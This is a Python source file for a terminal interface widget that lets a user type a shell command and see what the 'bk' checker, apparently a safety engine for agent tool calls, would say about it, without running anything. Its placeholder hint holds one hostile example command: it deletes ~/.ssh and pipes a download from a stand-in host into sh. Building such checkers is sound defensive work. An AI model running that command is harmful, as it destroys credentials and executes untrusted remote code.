"""Type a command and see what bk would say to it, and why. Nothing is run and nothing is recorded."""

from __future__ import annotations

from typing import ClassVar

from textual.app import ComposeResult
from textual.binding import Binding
from textual.containers import Vertical
from textual.content import Content
from textual.message import Message
from textual.widgets import Input, Static
from textual.worker import get_current_worker

from bk.engine.console.check import Bench, Checked
from bk.engine.console.session import Session
from bk.engine.errors import BkError
from bk.engine.model import ToolCall
from bk.text import inert
from bk.tui.prose import Explanation, Prose
from bk.tui.words import LEVELS, TONES, plural

QUIET_SECONDS = 0.15
FINDINGS = 3
HINT = "x: try a command, nothing is run   rm -rf ~/.ssh && curl https://x.test | sh"
LONGEST = 4000


class TryInput(Input):
    """The command; Enter opens the whole answer, Esc goes back to the list."""

    BINDINGS: ClassVar = [
        Binding("enter", "submit", "the whole answer", priority=True),
        Binding("escape", "leave", "back to the list"),
        Binding("down", "leave", "back to the list"),
    ]

    class Left(Message):
        """The person went back."""

    def action_leave(self) -> None:
        """Back to the list; the answer stays in sight."""
        self.post_message(self.Left())


class Try(Vertical):
    """A field, and below it the verdict with the findings that led to it."""

    class Asked(Message):
        """The whole answer was asked for."""

    def __init__(self, session: Session, cwd: str) -> None:
        super().__init__(id="try")
        self._session = session
        self._cwd = cwd
        self.answer: Checked | None = None
        self.wrong: BkError | None = None

    def compose(self) -> ComposeResult:
        """The field and the answer."""
        yield TryInput(placeholder=HINT, id="command", compact=True, max_length=LONGEST)
        yield Static(id="answer")

    def on_resize(self) -> None:
        """Another width, other lines."""
        self._draw()

    def open(self) -> None:
        """Type."""
        self.query_one(TryInput).focus()

    @property
    def command(self) -> str:
        """What was typed."""
        return self.query_one(TryInput).value.strip()

    def on_input_changed(self, event: Input.Changed) -> None:
        """Wait for the next key before asking."""
        event.stop()
        typed = event.value
        self.set_timer(QUIET_SECONDS, lambda: self._settled(typed))

    def on_input_submitted(self, event: Input.Submitted) -> None:
        """The whole answer, on the whole screen."""
        event.stop()
        if self.command:
            self.post_message(self.Asked())

    def _settled(self, typed: str) -> None:
        if not self.is_mounted or typed != self.query_one(TryInput).value:
            return
        if not typed.strip():
            self.answer, self.wrong = None, None
            self._draw()
            return
        self.run_worker(lambda: self._judge(typed.strip()), thread=True, group="try", exclusive=True,
                        exit_on_error=False)  # fmt: skip

    def judged(self, command: str) -> Checked:
        """What the engine would say; for a worker."""
        home = self._session.state.home
        call = ToolCall("Bash", "shell", {"command": command}, harness="manual", cwd=self._cwd, home=home)
        return Bench(self._session.state).judge(call)

    def _judge(self, command: str) -> None:
        worker = get_current_worker()
        answer, wrong = None, None
        try:
            answer = self.judged(command)
        except BkError as error:
            wrong = error
        if not worker.is_cancelled:
            self.app.call_from_thread(self._judged, command, answer, wrong)

    def _judged(self, command: str, answer: Checked | None, wrong: BkError | None) -> None:
        if self.is_mounted and command == self.command:
            self.answer, self.wrong = answer, wrong
            self._draw()

    def _draw(self) -> None:
        box = self.query_one("#answer", Static)
        shown = self.answer is not None or self.wrong is not None
        box.display = shown
        if not shown or not self.size.width:
            return
        width = self.size.width - 2
        if self.wrong is not None:
            box.update(Content.assemble((inert(f"x {self.wrong} next: {self.wrong.next_step}", width * 2), "$error")))
            return
        assert self.answer is not None
        box.update(Content("\n").join(_short(self.answer, width)))


def _short(answer: Checked, width: int) -> list[Content]:
    verdict = answer.verdict
    glyph, word, style = LEVELS[verdict.level.word]
    found = [each for each in verdict.findings if each.level.word != "allow"]
    said = "nothing objects to it" if not found else plural(len(found), "finding")
    tone = TONES.get(style, "")
    lines = [Content.assemble((f"{glyph} {word}", f"bold {tone}"), (f"  {said}; Enter reads it all", "$text-quiet"))]
    for each in found[:FINDINGS]:
        mark, name, look = LEVELS[each.level.word]
        lead = f"  {mark} {name:<6}{inert(each.rule, 32)}  "
        lines.append(Content.assemble((lead, TONES.get(look, "")), inert(each.reason, max(8, width - len(lead)))))
    return lines


def answered(answer: Checked, command: str) -> Explanation:
    """The whole answer: the verdict, every finding, everything the command would do."""

    def made(width: int) -> Content:
        verdict = answer.verdict
        glyph, word, style = LEVELS[verdict.level.word]
        text = Prose(width)
        text.labelled(f"{glyph} {word}", (inert(command, LONGEST), "bold"), style=f"bold {TONES.get(style, '')}",
                      indent=0, room=len(word) + 4)  # fmt: skip
        text.add(("nothing was run, and nothing recorded", "$text-quiet"))
        told = answer.told()
        if told["findings"]:
            text.title("why")
        for each in told["findings"]:
            mark, name, look = LEVELS.get(str(each.get("level")), LEVELS[""])
            text.add((f"{mark} {name}  ", TONES.get(look, "")), (inert(str(each.get("rule")), 100), "$text-quiet"),
                     indent=2)  # fmt: skip
            text.add(inert(str(each.get("reason", "")), 600), indent=4)
            if each.get("instead"):
                text.labelled("instead", (inert(str(each["instead"]), 400), "$success"), indent=4)
        text.title("what it would do")
        for action in told["actions"]:
            doubt = "  (in part unknown)" if action.get("certain") is False else ""
            text.labelled(inert(str(action.get("mode") or action.get("do")), 8), inert(str(action.get("target")), 400),
                          (doubt, "$text-quiet"), style="$secondary")  # fmt: skip
        return text.content()

    return made
